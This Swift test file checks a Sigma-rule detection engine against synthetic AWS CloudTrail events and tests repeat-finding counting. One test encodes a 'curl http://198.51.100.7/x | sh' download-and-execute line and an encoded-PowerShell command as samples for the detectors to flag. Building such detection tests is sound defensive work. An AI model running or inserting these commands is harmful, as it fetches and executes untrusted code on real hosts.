import Foundation
import Testing
import VigilDetection
import VigilLogs
import VigilModel
import VigilTesting
@testable import VigilRules

/// Rules written here run through the real reader and engine over CloudTrail events given as
/// JSON; each test has events that must match and events that must not.
@Suite struct SigmaRuleTests {
    static func rules(_ yaml: String, file: String = "test.yml") -> RuleSet {
        RuleSet(texts: [(file, yaml)])
    }

    static func event(_ name: String, source: String = "iam.amazonaws.com", id: String = UUID().uuidString,
                      time: String = "2024-05-01T10:00:00Z", arn: String = "arn:aws:iam::111122223333:user/alice",
                      ip: String = "198.51.100.7", agent: String = "aws-cli/2.15.0", parameters: [String: Any]? = nil,
                      extra: [String: Any] = [:]) -> [String: Any] {
        var event: [String: Any] = [
            "eventVersion": "1.09", "eventTime": time, "eventSource": source, "eventName": name, "awsRegion": "us-east-1",
            "sourceIPAddress": ip, "userAgent": agent, "eventID": id, "eventType": "AwsApiCall", "recipientAccountId": "111122223333",
            "userIdentity": ["type": "IAMUser", "principalId": "AIDAEXAMPLE", "arn": arn, "accountId": "111122223333",
                             "accessKeyId": "AKIAEXAMPLE", "userName": "alice"],
        ]
        if let parameters { event["requestParameters"] = parameters }
        for (k, v) in extra { event[k] = v }
        return event
    }

    /// The titles of the findings `set` raises over `events`.
    static func fired(_ set: RuleSet, _ events: [[String: Any]]) throws -> [String] {
        #expect(set.errors.isEmpty, "\(set.errors)")
        return try DetectionHarness.findings(cloudTrail: events, detectors: set.makeDetectors()).compactMap(\.title).sorted()
    }

    static func rule(_ detection: String, level: String = "high") -> String {
        """
        title: Test Rule
        id: 0f5c2b6e-0000-4000-8000-000000000001
        logsource:
            product: aws
            service: cloudtrail
        detection:
        \(detection.split(separator: "\n").map { "    " + $0 }.joined(separator: "\n"))
        level: \(level)
        tags:
            - attack.persistence
            - attack.t1098
        """
    }

    @Test func plainValuesMatchWholeValuesWithoutCaseAndWithWildcards() throws {
        let set = Self.rules(Self.rule("""
            selection:
                eventName: createaccesskey
                userAgent: 'aws-cli/*'
            condition: selection
            """))
        #expect(try Self.fired(set, [Self.event("CreateAccessKey")]) == ["Test Rule"])
        #expect(try Self.fired(set, [Self.event("CreateAccessKeys")]).isEmpty)
        #expect(try Self.fired(set, [Self.event("CreateAccessKey", agent: "boto3/1.0 aws-cli/2")]).isEmpty)
    }

    @Test func containsStartsWithEndsWithAndAll() throws {
        let set = Self.rules(Self.rule("""
            selection:
                eventName|startswith: 'Put'
                eventName|endswith: 'Policy'
                userAgent|contains|all:
                    - 'python'
                    - 'boto'
            condition: selection
            """))
        #expect(try Self.fired(set, [Self.event("PutUserPolicy", agent: "Boto3/1.28 Python/3.11")]) == ["Test Rule"])
        #expect(try Self.fired(set, [Self.event("PutUserPolicy", agent: "Python/3.11 requests")]).isEmpty)
        #expect(try Self.fired(set, [Self.event("PutUserPolicyX", agent: "boto python")]).isEmpty)
    }

    @Test func casedRegexCidrAndExists() throws {
        let set = Self.rules(Self.rule("""
            selection_cased:
                userAgent|cased|contains: 'Kali'
            selection_re:
                userIdentity.arn|re: ':assumed-role/aws:.+'
            selection_net:
                sourceIPAddress|cidr: '203.0.113.0/24'
            selection_exists:
                errorCode|exists: false
            condition: 1 of selection_c* or (selection_re and selection_net and selection_exists)
            """))
        #expect(try Self.fired(set, [Self.event("ListBuckets", agent: "aws-cli Linux/Kali")]) == ["Test Rule"])
        #expect(try Self.fired(set, [Self.event("ListBuckets", agent: "aws-cli linux/kali")]).isEmpty)
        let role = "arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc"
        #expect(try Self.fired(set, [Self.event("ListBuckets", arn: role, ip: "203.0.113.9")]) == ["Test Rule"])
        #expect(try Self.fired(set, [Self.event("ListBuckets", arn: role, ip: "203.0.114.9")]).isEmpty)
        #expect(try Self.fired(set, [Self.event("ListBuckets", arn: role, ip: "203.0.113.9", extra: ["errorCode": "AccessDenied"])]).isEmpty)
    }

    @Test func nestedFieldsSearchArraysAndCompareNumbers() throws {
        let set = Self.rules(Self.rule("""
            selection:
                eventName: RunInstances
                requestParameters.instancesSet.items.imageId: 'ami-0bad*'
                requestParameters.instancesSet.items.maxCount|gte: 10
            condition: selection
            """))
        func run(_ image: String, _ count: Int) -> [String: Any] {
            Self.event("RunInstances", source: "ec2.amazonaws.com",
                       parameters: ["instancesSet": ["items": [["imageId": "ami-0good", "maxCount": 1], ["imageId": image, "maxCount": count]]]])
        }
        #expect(try Self.fired(set, [run("ami-0bad123", 20)]) == ["Test Rule"])
        #expect(try Self.fired(set, [run("ami-0bad123", 2)]).isEmpty)
        #expect(try Self.fired(set, [run("ami-0fine", 20)]).isEmpty)
    }

    @Test func nullFieldrefAndFilters() throws {
        let set = Self.rules(Self.rule("""
            selection:
                eventName: UpdateLoginProfile
                errorCode: null
            filter_main_self:
                userIdentity.userName|fieldref: requestParameters.userName
            condition: selection and not 1 of filter_main_*
            """))
        #expect(try Self.fired(set, [Self.event("UpdateLoginProfile", parameters: ["userName": "bob"])]) == ["Test Rule"])
        #expect(try Self.fired(set, [Self.event("UpdateLoginProfile", parameters: ["userName": "alice"])]).isEmpty)
        #expect(try Self.fired(set, [Self.event("UpdateLoginProfile", parameters: ["userName": "bob"], extra: ["errorCode": "NoSuchEntity"])]).isEmpty)
    }

    @Test func base64OffsetAndWindashFindEncodedAndVariantText() throws {
        let set = Self.rules(Self.rule("""
            selection_b64:
                requestParameters.userData|base64offset|contains: 'curl http'
            selection_dash:
                requestParameters.command|windash|contains: ' -enc '
            condition: 1 of selection_*
            """))
        for prefix in ["", "a", "ab", "abc"] {
            let encoded = Data("#!/bin/sh\n\(prefix)curl http://198.51.100.7/x | sh".utf8).base64EncodedString()
            #expect(try Self.fired(set, [Self.event("ModifyInstanceAttribute", source: "ec2.amazonaws.com", parameters: ["userData": encoded])]) == ["Test Rule"],
                    "offset \(prefix.count)")
        }
        let benign = Data("#!/bin/sh\nyum update -y".utf8).base64EncodedString()
        #expect(try Self.fired(set, [Self.event("ModifyInstanceAttribute", source: "ec2.amazonaws.com", parameters: ["userData": benign])]).isEmpty)
        #expect(try Self.fired(set, [Self.event("SendCommand", source: "ssm.amazonaws.com", parameters: ["command": "powershell /enc AAAA"])]) == ["Test Rule"])
        #expect(try Self.fired(set, [Self.event("SendCommand", source: "ssm.amazonaws.com", parameters: ["command": "powershell -encoding utf8"])]).isEmpty)
    }

    @Test func rulesAreRoutedByTheEventNamesTheyPin() throws {
        let set = Self.rules(Self.rule("""
            selection_a:
                eventName:
                    - CreateUser
                    - CreateLoginProfile
            selection_b:
                eventName: CreateAccessKey
                eventSource: iam.amazonaws.com
            filter:
                userAgent|contains: terraform
            condition: (selection_a or selection_b) and not filter
            """))
        #expect(set.rules[0].eventNames == ["CreateUser", "CreateLoginProfile", "CreateAccessKey"])
        let unrouted = Self.rules(Self.rule("""
            selection:
                eventSource: iam.amazonaws.com
            condition: selection
            """))
        #expect(unrouted.rules[0].eventNames == nil)
    }

    @Test func findingsCarryTheRuleAndAGuardDutyShapedType() throws {
        let set = Self.rules(Self.rule("""
            selection:
                eventName: CreateAccessKey
            condition: selection
            """, level: "critical"))
        let findings = try DetectionHarness.findings(cloudTrail: [Self.event("CreateAccessKey"), Self.event("CreateAccessKey")], detectors: set.makeDetectors())
        let finding = try #require(findings.first)
        #expect(findings.count == 1)
        #expect(finding.type == "Persistence:IAMUser/Sigma.TestRule")
        #expect(finding.severity == 9.0)
        #expect(finding.service?.count == 2)
        #expect(finding.resource.resourceType == "AccessKey")
        let info = finding.service?.additionalInfo?.value ?? ""
        #expect(info.contains("0f5c2b6e-0000-4000-8000-000000000001"))
        #expect(info.contains("attack.t1098"))
    }

    @Test func findingTypesAreStableAndFitGuardDutysLimit() {
        #expect(RuleFindingType.make(title: "AWS User Login Profile Was Modified", tactics: ["persistence"], id: nil).name
                == "Persistence:IAMUser/Sigma.AWSUserLoginProfileWasModified")
        #expect(RuleFindingType.make(title: "Ingress/Egress Security-Group modification", tactics: ["t1098", "collection"], id: nil).name
                == "Exfiltration:IAMUser/Sigma.IngressEgressSecurityGroupModification")
        let long = RuleFindingType.make(title: String(repeating: "very long title ", count: 20), tactics: [], id: "abcdef12-3456")
        #expect(long.name.count == 100)
        #expect(long.name.hasSuffix(".abcdef12"))
        #expect(long.name.hasPrefix("UnauthorizedAccess:IAMUser/Sigma.VeryLongTitle"))
    }

    /// A rule's repeated matches count per principal, account and region — interleaved, and
    /// across batches the aggregator hands on between (``RepeatHandle``s of a drained batch count nothing).
    @Test func repeatsCountPerPrincipalAndRegionAcrossBatches() throws {
        let set = Self.rules(Self.rule("""
            selection:
                eventName: 'ListUsers'
            condition: selection
            """))
        let alice = "arn:aws:iam::111122223333:user/alice", bob = "arn:aws:iam::111122223333:user/bob"
        func events(_ who: [(String, String)], from start: Int) -> String {
            who.enumerated().map { index, pair in
                var event = Self.event("ListUsers", id: "e-\(start + index)", time: "2024-05-01T10:\(String(format: "%02d", (start + index) % 60)):00Z", arn: pair.0)
                event["awsRegion"] = pair.1
                event["userIdentity"] = ["type": "IAMUser", "principalId": "AIDA\(pair.0.count)", "arn": pair.0, "accountId": "111122223333",
                                         "userName": String(pair.0.split(separator: "/").last!)]
                return String(decoding: try! JSONSerialization.data(withJSONObject: event, options: [.sortedKeys]), as: UTF8.self)
            }.joined(separator: "\n") + "\n"
        }
        let aggregator = FindingAggregator()
        let engine = DetectionEngine(detectors: set.makeDetectors(), sink: aggregator)
        func read(_ text: String) {
            var bytes = Array(text.utf8)
            bytes.withUnsafeMutableBytes { _ = LogReader().read(bytes: UnsafeRawBufferPointer($0), path: "t.jsonl", into: engine) }
        }
        func counts(_ findings: [Finding]) -> [String: Int] {
            Dictionary(findings.map { ("\($0.resource.accessKeyDetails?.userName ?? "?") \($0.region)", $0.service?.count ?? 0) }, uniquingKeysWith: +)
        }
        read(events([(alice, "us-east-1"), (bob, "us-east-1"), (alice, "us-east-1"), (alice, "eu-west-1"), (bob, "us-east-1"), (alice, "us-east-1")], from: 0))
        #expect(counts(aggregator.drain()) == ["alice us-east-1": 3, "bob us-east-1": 2, "alice eu-west-1": 1])
        read(events([(bob, "us-east-1"), (alice, "us-east-1"), (bob, "us-east-1")], from: 10))
        #expect(counts(aggregator.drain()) == ["bob us-east-1": 2, "alice us-east-1": 1])
        // Many principals, each seen three times in turn: the detector's table of handles grows.
        let many = (0..<60).map { ("arn:aws:iam::111122223333:user/u\($0)", "eu-west-1") }
        read(events(many + many + many, from: 100))
        let counted = counts(aggregator.drain())
        #expect(counted.count == 60)
        #expect(counted.values.allSatisfy { $0 == 3 }, "\(counted)")
    }
}

/// The handles a rule keeps are found only for the same principal, account and region, byte for
/// byte: absent and empty names are told apart, a sighting without a region is never held or
/// found, and names too long to keep are not kept.
@Suite struct HeldFindingsTests {
    static func text<T>(_ value: String?, _ body: (RawText?) -> T) -> T {
        guard let value else { return body(nil) }
        var bytes = Array(value.utf8)
        bytes.append(0)  // a present empty name still has an address
        return bytes.withUnsafeMutableBufferPointer { body(RawText(start: UnsafePointer($0.baseAddress), count: $0.count - 1)) }
    }

    static func handle() throws -> RepeatHandle {
        let aggregator = FindingAggregator()
        aggregator.report(Observation(type: .policyIAMUserRootCredentialUsage, accountId: "111122223333", region: "us-east-1",
                                      time: Timestamp(secondsSinceEpoch: 1), resource: Resource(resourceType: "AccessKey"),
                                      title: "t", description: "d", identity: .init(resource: "p", actor: "a")))
        return try #require(text("e2") { id in
            aggregator.reportRepeat(.policyIAMUserRootCredentialUsage, accountId: "111122223333", region: "us-east-1",
                                    identity: .init(resource: "p", actor: "a"), time: Timestamp(secondsSinceEpoch: 2),
                                    eventId: id!, location: { "f:2" })
        })
    }

    @Test func findsOnlyTheSameSighting() throws {
        let handle = try Self.handle()
        let account = try #require(AccountID("111122223333")), other = try #require(AccountID("444455556666"))
        var held = HeldFindings()
        func hold(_ principal: String?, _ region: String?) {
            Self.text(principal) { p in Self.text(region) { r in held.hold(handle, principal: p, account: account, region: r ?? .absent) } }
        }
        func find(_ principal: String?, _ region: String?, in owner: AccountID? = nil) -> Bool {
            Self.text(principal) { p in Self.text(region) { r in held.handle(principal: p, account: owner ?? account, region: r ?? .absent) != nil } }
        }
        hold("arn:aws:iam::111122223333:role/app", "us-east-1")
        hold(nil, "eu-west-1")
        hold("", "")
        hold("arn:aws:iam::111122223333:role/other", nil)  // no region: not held
        #expect(held.count == 3)
        #expect(find("arn:aws:iam::111122223333:role/app", "us-east-1"))
        #expect(!find("arn:aws:iam::111122223333:role/apq", "us-east-1"))
        #expect(!find("arn:aws:iam::111122223333:role/app", "us-east-2"))
        #expect(!find("arn:aws:iam::111122223333:role/app", "us-east-1", in: other))
        #expect(!find(nil, "us-east-1"))
        #expect(find(nil, "eu-west-1"))
        #expect(!find("", "eu-west-1"))
        #expect(find("", ""))
        #expect(!find(nil, ""))
        #expect(!find("", nil))  // an absent region is not the empty one
        #expect(!find("arn:aws:iam::111122223333:role/other", nil))
        hold(String(repeating: "x", count: HeldFindings.longestName + 1), "us-east-1")
        #expect(held.count == 3)
        held.removeAll()
        #expect(held.count == 0 && !find("arn:aws:iam::111122223333:role/app", "us-east-1"))
    }

    @Test func startsAfreshAtItsLimit() throws {
        let handle = try Self.handle()
        let account = try #require(AccountID("111122223333"))
        var held = HeldFindings()
        for i in 0..<HeldFindings.limit {
            Self.text("user-\(i)") { p in Self.text("us-east-1") { r in held.hold(handle, principal: p, account: account, region: r!) } }
        }
        #expect(held.count == HeldFindings.limit)
        Self.text("one-more") { p in Self.text("us-east-1") { r in held.hold(handle, principal: p, account: account, region: r!) } }
        #expect(held.count == 1)
        #expect(Self.text("user-0") { p in Self.text("us-east-1") { r in held.handle(principal: p, account: account, region: r!) } } == nil)
        #expect(Self.text("one-more") { p in Self.text("us-east-1") { r in held.handle(principal: p, account: account, region: r!) } } != nil)
    }
}
